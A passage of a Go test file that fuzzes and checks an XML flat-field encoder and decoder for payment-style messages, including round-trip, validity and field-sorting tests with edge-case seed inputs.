					t.Fatalf("error does not wrap ErrMalformed: %v", err)
				}
				continue
			}
			for i, fl := range l {
				if !isFieldName(fl.name) {
					t.Fatalf("decodeFlat accepted the name %q", fl.name)
				}
				if !validText(fl.value) {
					t.Fatalf("decodeFlat accepted a value XML cannot carry in %q", fl.name)
				}
				if i > 0 && l[i-1].name >= fl.name {
					t.Fatalf("fields not strictly sorted: %q then %q", l[i-1].name, fl.name)
				}
			}
			// Every name decodeFlat accepts is one encodeFlat writes (the
			// old decoder took names the encoder refused).
			enc, err := mtEncode(l.toMap())
			if err != nil {
				t.Fatalf("encodeFlat(decodeFlat(x)) failed: %v", err)
			}
			back, err := decodeFlat(enc, "xml")
			if err != nil {
				t.Fatalf("decodeFlat(encodeFlat(m)) failed: %v\n%q", err, enc)
			}
			if !slices.Equal(xtPairs(l), xtPairs(back)) {
				t.Fatalf("round trip changed the fields:\n%q\n%q", xtPairs(l), xtPairs(back))
			}
		}
	})
}

// FuzzEncodeFlatRoundTrip: for arbitrary names and values, encodeFlat either
// refuses or produces a document that decodes to exactly the input.
func FuzzEncodeFlatRoundTrip(f *testing.F) {
	f.Add("a", "1", "b", "")
	f.Add("refund_desc", "商品缺货", "sign", "F6D21A6A2156D461B557F665B8D98017")
	f.Add("a", "]]>", "b", "]]]]>>")
	f.Add("a", "<![CDATA[x]]>", "b", "&lt;&amp;")
	f.Add("a", "line\r\nbreak\r", "b", "\n")
	f.Add("a", "\x00", "b", "\xff")
	f.Add("", "x", "1a", "y")
	f.Add("a b", "x", "a<", "y")
	f.Add("x", "same", "x", "same")
	f.Add("名", "x", "a:b", "y")
	f.Fuzz(func(t *testing.T, k1, v1, k2, v2 string) {
		m := map[string]string{k1: v1, k2: v2}
		enc, err := mtEncode(m)
		valid := true
		for k, v := range m {
			if !isFieldName(k) || !validText(v) {
				valid = false
			}
		}
		if err != nil {
			if valid {
				t.Fatalf("encodeFlat refused valid input: %v", err)
			}
			if enc != nil {
				t.Fatalf("encodeFlat returned a document and an error")
			}
			return
		}
		if !valid {
			t.Fatalf("encodeFlat accepted invalid input")
		}
		enc2, _ := mtEncode(m)
		if !bytes.Equal(enc, enc2) {
			t.Fatalf("encodeFlat is not deterministic")
		}
		back, err := decodeFlat(enc, "xml")
		if err != nil {
			t.Fatalf("decodeFlat(encodeFlat(m)) failed: %v\n%q", err, enc)
		}
		if want := xtPairs(mtFieldList(m)); !slices.Equal(xtPairs(back), want) {
			t.Fatalf("round trip changed the fields:\n%q\n%q (document %q)", want, xtPairs(back), enc)
		}
	})
}

// sortFields orders names exactly as a comparison sort does: shared
// prefixes of every length, names that extend others, duplicates, and the
// fallback for more than 256 fields.
func TestSortFieldsMatchesComparisonSort(t *testing.T) {
	t.Parallel()
	rng := rand.New(rand.NewPCG(1, 2))
	parts := []string{"coupon_", "refund_", "fee", "_", "0", "1", "10", "id", "count", "a", "settlement_", "x"}
	for _, n := range []int{0, 1, 2, 7, 25, 190, 256, 257, 600} {
		for range 20 {
			fields := make(fieldList, n)
			for i := range fields {
				var b strings.Builder
				for range 1 + rng.IntN(12) {
					b.WriteString(parts[rng.IntN(len(parts))])
				}
				if rng.IntN(20) == 0 { // a long shared prefix
					b.WriteString(strings.Repeat("p", 70+rng.IntN(3)))
				}
				fields[i] = field{b.String(), strconv.Itoa(i)}
			}
			want := slices.Clone(fields)
			slices.SortStableFunc(want, func(a, b field) int { return strings.Compare(a.name, b.name) })
			sortFields(fields)
			got := make([]string, n)
			for i := range fields {
				got[i] = fields[i].name
			}
			wantNames := make([]string, n)
			for i := range want {
				wantNames[i] = want[i].name
			}
			require.Equal(t, wantNames, got, "n=%d", n)
			// Every field kept its own value.
			assert.ElementsMatch(t, want, fields)
		}
	}
}
